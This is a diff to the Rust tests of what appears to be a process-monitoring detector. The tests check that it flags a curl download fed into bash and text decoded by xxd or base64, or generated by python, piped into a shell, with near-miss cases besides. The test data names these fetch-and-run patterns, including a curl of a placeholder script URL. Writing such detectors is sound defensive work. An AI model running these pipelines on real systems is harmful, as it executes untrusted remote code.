@@ -3,6 +3,8 @@
 //! kernel for lack of a #! line.
 
 use super::*;
+use crate::testkit::exec_with;
+use std::sync::Arc;
 
 #[test]
 fn an_interpreters_script_is_the_first_operand_after_its_options() {
@@ -178,6 +180,40 @@ fn a_download_piped_into_a_shell() {
         out[0].evidence.iter().map(|e| e.pid).collect::<Vec<_>>(),
         [836, 830]
     );
+    // `bash <(curl …)` as the last word of `bash -c`: the shell forks curl
+    // for the substitution, then becomes `bash /dev/fd/63` itself. curl is
+    // its child; either exec may come first.
+    let subst = child(840, "/usr/bin/bash", &["bash", "/dev/fd/63"]);
+    let fed = process(
+        841,
+        "/usr/bin/curl",
+        &["curl", "-s", "http://h/i.sh"],
+        Some(subst.clone()),
+    );
+    let fed_exec = |ms| exec_with(ms, &fed, |x| x.parent_start_ns = subst.start_ns);
+    for events in [
+        [exec(20, &subst), fed_exec(21)],
+        [fed_exec(20), exec(21, &subst)],
+    ] {
+        let out = findings(&events);
+        assert_eq!(out.len(), 1, "{out:#?}");
+        assert_eq!(out[0].rule.severity, Severity::High);
+        assert_eq!(
+            out[0].message,
+            "/usr/bin/bash (pid 840) reads its script from its standard input, fed by its own \
+             child /usr/bin/curl (pid 841): a download piped into a shell"
+        );
+    }
+    // A shell reading its terminal does not pair with a child's download.
+    let interactive = child(842, "/usr/bin/bash", &["bash"]);
+    let typed = process(
+        843,
+        "/usr/bin/curl",
+        &["curl", "h"],
+        Some(interactive.clone()),
+    );
+    let typed = exec_with(31, &typed, |x| x.parent_start_ns = interactive.start_ns);
+    assert!(findings(&[exec(30, &interactive), typed]).is_empty());
     // Near misses: curl into grep, into `sh -c`, a shell started long
     // after, a shell of another parent.
     let mut c = correlator();
@@ -190,6 +226,61 @@ fn a_download_piped_into_a_shell() {
         exec(10_000, &child(835, "/usr/bin/bash", &["bash"])),
     ];
     assert!(ids(&mut c, &events).is_empty());
+}
+
+/// `p`'s exec with fd `n` a pipe of inode `ino` (a terminal: 0).
+fn piped_exec(ms: u64, p: &Arc<Process>, n: usize, ino: u64) -> Event {
+    use crate::model::event::{FdType, StdioFd};
+    exec_with(ms, p, |x| {
+        x.stdio.fds[n] = StdioFd {
+            kind: if ino == 0 { FdType::Tty } else { FdType::Pipe },
+            inode: ino,
+            peer_inode: 0,
+        };
+    })
+}
+
+#[test]
+fn decoded_or_generated_text_piped_into_a_shell() {
+    let shell = chain(&["/sbin/init", "/bin/bash"]).unwrap();
+    let child = |pid, exe: &str, args: &[&str]| process(pid, exe, args, Some(shell.clone()));
+    let sh = child(851, "/usr/bin/sh", &["sh"]);
+    let found = |feeder: &Arc<Process>, out_pipe, in_pipe| {
+        findings(&[
+            piped_exec(0, feeder, 1, out_pipe),
+            piped_exec(1, &sh, 0, in_pipe),
+        ])
+        .into_iter()
+        .map(|f| (f.rule.severity, f.message))
+        .collect::<Vec<_>>()
+    };
+    let xxd = child(850, "/usr/bin/xxd", &["xxd", "-r", "-p"]);
+    assert_eq!(
+        found(&xxd, 77, 77),
+        [(
+            Severity::High,
+            "/usr/bin/sh (pid 851) reads its script from its standard input, started with \
+             /usr/bin/xxd (pid 850) by the same parent: a decoded text piped into a shell"
+                .to_string()
+        )]
+    );
+    let py = child(852, "/usr/bin/python3", &["python3", "-c", "print('id')"]);
+    let f = found(&py, 78, 78);
+    assert_eq!(f.len(), 1, "{f:#?}");
+    assert_eq!(f[0].0, Severity::Medium);
+    assert!(
+        f[0].1.ends_with("a generated text piped into a shell"),
+        "{f:#?}"
+    );
+    // Near misses: the decoder's output goes to another pipe than the
+    // shell's stdin (`base64 -d x | grep y; sh < z`), the shell reads its
+    // terminal, the decoder writes to a terminal, a script run by python.
+    let b64 = child(853, "/usr/bin/base64", &["base64", "-d"]);
+    assert!(found(&b64, 80, 81).is_empty());
+    assert!(found(&b64, 80, 0).is_empty());
+    assert!(found(&b64, 0, 80).is_empty());
+    let script = child(854, "/usr/bin/python3", &["python3", "/srv/gen.py"]);
+    assert!(found(&script, 82, 82).is_empty());
 }
 
 #[test]
